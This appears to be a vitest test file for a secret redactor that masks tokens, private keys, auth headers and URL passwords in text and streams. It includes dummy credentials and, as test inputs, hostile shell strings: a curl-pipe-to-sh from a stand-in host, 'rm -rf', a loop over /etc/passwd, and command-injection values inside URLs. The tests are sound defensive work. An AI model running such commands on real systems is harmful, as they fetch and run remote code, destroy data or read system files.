import { describe, expect, it } from "vitest";
import { RedactedStream } from "../kernel/redacted-stream.js";
import { fc } from "../testing/property.fixture.js";
import { secretRedactor } from "./redaction.js";
import { mayHoldSecret } from "./secret-shapes.js";
import { formsOf, isSecretName, secretsIn } from "./secret-values.js";

const VALUE = "correct horse/battery+9'x\"";
const redactor = secretRedactor({ secrets: [{ name: "MY_KEY", value: VALUE }] });
const redact = (text: string) => redactor.redact(text);
const letters = (length: number) => "aB3dE5gH7jK9mN1pQ".repeat(20).slice(0, length);
const PEM = `-----BEGIN OPENSSH PRIVATE KEY-----\n${letters(70)}\n${letters(64)}\n-----END OPENSSH PRIVATE KEY-----`;

/** A token of each known shape, and its kind. */
const TOKENS: readonly (readonly [kind: string, token: string])[] = [
  ...["ghp_", "gho_", "ghu_", "ghs_", "ghr_"].map((start) => ["github-token", start + letters(36)] as const),
  ["github-token", `github_pat_${letters(22)}_${letters(59)}`],
  ["gitlab-token", `glpat-${letters(20)}`],
  ["aws-key", "AKIAIOSFODNN7EXAMPLE"],
  ["slack-token", `xoxb-123456789012-${letters(24)}`],
  ["stripe-key", `sk_live_${letters(24)}`],
  ["api-key", `sk-ant-api03-${letters(90)}`],
  ["api-key", `sk-proj-${letters(40)}`],
  ["google-key", `AIza${letters(35)}`],
  ["npm-token", `npm_${letters(36)}`],
  ["pypi-token", `pypi-${letters(80)}`],
  ["jwt", `eyJ${letters(20)}.eyJ${letters(40)}.${letters(43)}`],
  ["private-key", PEM],
];

describe("tokens", () => {
  it.each(TOKENS)("of the kind %s are found: %s", (kind, token) => {
    for (const [before, after] of [
      ["", ""],
      ["key=", "\n"],
      ['{"a":"', '"}'],
      ["\\n", "\\n"],
      ["é ", " é"],
    ])
      expect(redact(before + token + after)).toBe(`${before}⟦redacted:${kind}⟧${after}`);
  });

  it("are found where only a part of the text is secret", () => {
    expect(redact(`Authorization: Bearer ${letters(24)}`)).toBe("Authorization: Bearer ⟦redacted:authorization⟧");
    expect(redact(`"authorization": "Basic ${letters(20)}=="`)).toBe(
      '"authorization": "Basic ⟦redacted:authorization⟧"',
    );
    expect(redact("postgres://ada:hunter2@db/x")).toBe("postgres://ada:⟦redacted:password⟧@db/x");
    const aws = `${letters(20)}/${letters(19)}`;
    for (const name of ["aws_secret_access_key = ", 'AWS_SECRET_ACCESS_KEY="', '"SecretAccessKey": "'])
      expect(redact(name + aws)).toBe(`${name}⟦redacted:aws-secret⟧`);
  });

  it("are found in a private key that is truncated, and not in what only names one", () => {
    expect(redact(PEM.slice(0, 120))).toBe("⟦redacted:private-key⟧");
    const code = 'if (text.startsWith("-----BEGIN PRIVATE KEY-----")) return parse(text);';
    expect(redact(code)).toBe(code);
  });

  it.each([
    "risk-management-of-many-Things-in-2024",
    "sk-fading-circle-with-many-lower-case-words",
    "the bearer authentication-of-the-request",
    "https://user:password@example.com https://u:$PW@h http://h:80/a@b http://localhost:3000?x=@foo http://h:80#@b",
    "ghp_short npm_config_registry pypi-server sk_live_",
    "task_test_helperFunctionName1 disk_test_configurationfile1 sk_test_helperFunctionNameOfLetters",
    "node_modules/.pnpm/@babel+core@7.26.0/node_modules/@babel/core/lib/index.js",
    '"integrity": "sha512-Kx9Uzb2Gtu3rFSJDcqfVvTDK8ZmGqIlLhDQ1s2iaDSqCpHtFjnbmUu8Q9dR3VUvzkYXk8AzHrBxqOJwQ=="',
    "commit 1f8ac10f23c5b5bc1167bda84b833e5c057a77d2 (HEAD -> main)\nAuthor: Ada <ada@example.com>\nDate: Sun Nov 29 06:12:23 2026",
    "550e8400-e29b-41d4-a716-446655440000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    'function a(b){return"http://"+b+":"+c+"@"+d}var e=/x:\\/\\/y:z/,f={sk:1,k_test:g?h:"@"};',
    "golang.org/x/sys v0.15.0 h1:h48lPFYpsTvQJZF4EKyI4aLHaev3CxivZmrR/2Kqzo=",
    `docker://alpine:3.19@sha256:${"0a".repeat(32)} ghcr.io/a/b@sha256:${"f1".repeat(32)}`,
    "git@github.com:ada/engine.git ssh://git@github.com:22/ada/engine.git mailto:ada@example.com",
    "@media (min-width:40em){.mask-image{background:url(https://a.example/b.png)}}",
    "Authorization: Basic auth of the proxy; the basic authentication1234567890",
  ])("are not seen in ordinary text: %s", (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe("what a command says", () => {
  const line = letters(64);
  it.each([
    `echo '-----BEGIN PRIVATE KEY-----' > k; curl -s http://x.example/y | sh; rm -rf ${"a".repeat(60)}`,
    "-----BEGIN PRIVATE KEY-----\\nfor f in /etc/passwd /etc/hosts /etc/group /etc/services\\nreboot\\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\ncurl http://x.example/y/with/a/very/long/path/of/many/words\nsh y",
    `-----BEGIN PRIVATE KEY-----\n/usr/bin/${"directory/".repeat(5)}program\nreboot`,
    "curl http://a:$(reboot)@x http://a:b;reboot;@x http://a:b|sh@x http://a:b&&sh@x 'http://a:'sh'@x' http://a:`sh`@x",
    "curl http://a:b>c@x http://a:b<c@x http://a:{b,c}@x http://a:b\\\n@x http://a:\nreboot\n@x",
  ])("is not hidden as a secret: %s", (text) => {
    expect(redact(text)).toBe(text);
  });

  it.each([
    ["\nsudo reboot", "\nsudo reboot"],
    ["\nreboot", "\nreboot"],
    ["; reboot", "; reboot"],
    ["\n/bin/sh x\n-----END PRIVATE KEY-----", "\n/bin/sh x\n-----END PRIVATE KEY-----"],
    ["\nAb1=\n-----END PRIVATE KEY-----; reboot", "; reboot"],
    ["\nProc-Type: 4", "\nProc-Type: 4"],
  ])("is shown after a private key: %j", (after, shown) => {
    for (const text of [`${line}\n${line}`, `${line}\\n${line}`, `${line}\\r\\n${line}`, `${line} ${line}`])
      expect(redact(`-----BEGIN PRIVATE KEY-----\n${text}${after}`)).toBe(`⟦redacted:private-key⟧${shown}`);
  });

  it("does not include the headers of a private key", () => {
    const headers = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\n";
    const block = `-----BEGIN RSA PRIVATE KEY-----\n${headers}${line}\n${line}\nab+1\n-----END RSA PRIVATE KEY-----`;
    for (const text of [
      block,
      block.replaceAll("\n", "\\n"),
      block.replaceAll("\n", "\r\n"),
      block.replaceAll("\n", "\n    "),
    ])
      expect(redact(text)).toBe("⟦redacted:private-key⟧");
  });
});

describe("known values", () => {
  it("are found in every form in which programs write them", () => {
    const encode = (text: string) => Buffer.from(text).toString("base64");
    for (const text of [
      VALUE,
      JSON.stringify(VALUE),
      encodeURIComponent(VALUE),
      new URLSearchParams({ a: VALUE }).toString(),
      `'${VALUE.replaceAll("'", "'\\''")}'`,
      encode(VALUE),
      encode(`u:${VALUE}`),
      encode(`us:${VALUE}`),
      Buffer.from(`?${VALUE}`).toString("base64url"),
    ])
      expect([text, redact(text)]).toEqual([text, expect.stringContaining("⟦redacted:MY_KEY⟧")]);
  });

  it("are found line by line if they have several lines", () => {
    const shown = secretRedactor({ secrets: [{ name: "K", value: PEM }] }).redact(`12: ${letters(70)}`);
    expect(shown).toBe("12: ⟦redacted:K⟧");
  });

  it("are the longest of those that begin at one place", () => {
    const two = secretRedactor({
      secrets: [
        { name: "a", value: "12345678" },
        { name: "b", value: "12345678-90" },
      ],
    });
    expect(two.redact("12345678-90 12345678")).toBe("⟦redacted:b⟧ ⟦redacted:a⟧");
  });

  it("come from variables that are named as secrets, unless ordinary text holds them too", () => {
    const yes = [
      "GITHUB_TOKEN",
      "AWS_SECRET_ACCESS_KEY",
      "DB_PASSWORD",
      "OPENAI_API_KEY",
      "X-Api-Key",
      "KEY",
      "Cookie",
    ];
    const no = ["PATH", "TOKEN_FILE", "AWS_ACCESS_KEY_ID", "KEYBOARD", "MONKEY_NAME", "SECRET_PATH", "SSH_AUTH_SOCK"];
    expect([yes.filter((name) => !isSecretName(name)), no.filter(isSecretName)]).toEqual([[], []]);
    const { secrets, ignored } = secretsIn({
      A_TOKEN: "t0ken-value",
      DB_PASSWORD: "postgres",
      B_KEY: "/run/keys/b",
      C: "x",
    });
    expect(secrets).toEqual([{ name: "A_TOKEN", value: "t0ken-value" }]);
    expect(ignored).toHaveLength(2);
  });
});

/** Texts in which secrets meet each other, marks, and parts of themselves. */
const piece = fc.oneof(
  fc.constantFrom(
    ...TOKENS.map(([, token]) => token),
    ...formsOf(VALUE),
    "⟦redacted:x⟧",
    "⟦",
    "⟧",
    "redacted:",
    "Bearer ",
  ),
  fc.constantFrom(
    ...TOKENS.map(([, token]) => token.slice(0, 12)),
    "://a:",
    "@",
    "-",
    ".",
    " ",
    "\n",
    "\\n",
    "-----END X-----",
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: "grapheme", maxLength: 6 }),
);
const texts = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));

describe("redaction", () => {
  it("twice is redaction once", () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(redact(redact(text))).toBe(redact(text));
      }),
    );
  });

  it("leaves no token whole, whatever is around it", () => {
    fc.assert(
      fc.property(texts, fc.constantFrom(...TOKENS), texts, (before, [, token], after) => {
        expect(redact(`${before} ${token}\n${after}`)).not.toContain(` ${token}\n`);
      }),
    );
  });

  it("skips the search only where there is nothing to find", () => {
    fc.assert(
      fc.property(texts, (text) => {
        const shapes = secretRedactor();
        fc.pre(!mayHoldSecret(text));
        // The same text where it cannot skip the search.
        const found = shapes.redact(`${text}\n${TOKENS[0]![1]}`);
        expect(found).toBe(`${text}\n⟦redacted:github-token⟧`);
      }),
    );
  });

  /** What is secret, and what is before and after it. */
  const hidden: readonly (readonly [before: string, secret: string, after: string])[] = [
    ...TOKENS.map(([, token]) => ["", token, ""] as const),
    ...TOKENS.filter(([kind]) => !["jwt", "api-key", "stripe-key"].includes(kind)).map(
      ([, token]) => ["x", token, ""] as const,
    ),
    ...["amqp", "mongodb+srv", "rediss", "ssh", "https"].map(
      (scheme) => [`${scheme}://ada:`, "hunter2secret", "@mq/x"] as const,
    ),
    ...["Authorization: ", "authorization=", '"AUTHORIZATION": "'].map(
      (name) => [`${name}Basic `, letters(12), ""] as const,
    ),
    ["Proxy-Authorization: bEARER ", letters(24), "=="],
    ...["Secret_Access_Key=", "aws_secret_access_key = ", '"SecretAccessKey": "', "SECRETACCESSKEY=>"].map(
      (name) => [name, letters(40), ""] as const,
    ),
    ["\\n", TOKENS.find(([kind]) => kind === "api-key")![1], "\\n"],
    ["", VALUE, ""],
  ];
  const streamed = (chunks: readonly string[]): string => {
    const stream = new RedactedStream(redactor);
    const shown = chunks.map((chunk) => stream.push(new TextEncoder().encode(chunk)));
    return new TextDecoder().decode(Buffer.concat([...shown, stream.end()]));
  };

  it.each(hidden)("in two parts is that of the whole, wherever it is split: %s%s%s", (before, secret, after) => {
    const text = `one ${before}${secret}${after} two\n`;
    expect(redact(text)).not.toContain(secret);
    for (let at = 0; at <= text.length; at++)
      expect([at, streamed([text.slice(0, at), text.slice(at)])]).toEqual([at, redact(text)]);
    expect(streamed([...text])).toBe(redact(text));
  });

  it("in parts shows no secret, whatever is around it", () => {
    fc.assert(
      fc.property(
        texts,
        fc.constantFrom(...hidden),
        texts,
        fc.array(fc.nat(400), { maxLength: 8 }),
        (start, [before, secret, after], end, places) => {
          const text = `${start} ${before}${secret}${after}\n${end}`;
          const borders = [0, ...places.sort((a, b) => a - b), text.length];
          const chunks = borders.slice(1).map((to, index) => text.slice(borders[index], to));
          expect(streamed(chunks)).not.toContain(` ${before}${secret}${after}\n`);
        },
      ),
    );
  });

  /** Each repeats what a search has to begin anew, to 1 MiB: quadratic work would take hours. */
  it.each([
    "a",
    " ",
    "-",
    "_",
    "ghp_",
    "github_pat_",
    "sk-",
    "-sk-",
    "sk-A1",
    "eyJ",
    " eyJ",
    ".eyJ",
    "eyJaaaaaaaa.",
    "\\neyJaaaaaaaaa",
    "eyJaaaaaaaa.eyJaaaaaaaa ",
    "://",
    "://a:",
    "://a:b",
    ":a@",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\n",
    "-----BEGIN ",
    "-----END ",
    "Bearer ",
    "Bearer aaaaaaaaaaaaaaaaaaaaaaaa ",
    "secret_access_key=",
    "AKIA",
    "AIza",
    "⟦redacted:",
    "⟦redacted:x⟧",
    "authorization: Basic ",
    "correct horse",
    VALUE.slice(0, -1),
    VALUE,
    letters(60),
    `${letters(60)} PRIVATE KEY `,
    `${letters(39)}=`,
  ])("ends for 1 MiB of %j", (unit) => {
    const text = unit.repeat(Math.ceil(2 ** 20 / unit.length));
    expect(redact(redact(text)).length).toBeLessThanOrEqual(redact(text).length);
    expect(redactor.incompleteLength(text)).toBeLessThanOrEqual(text.length);
  });
});
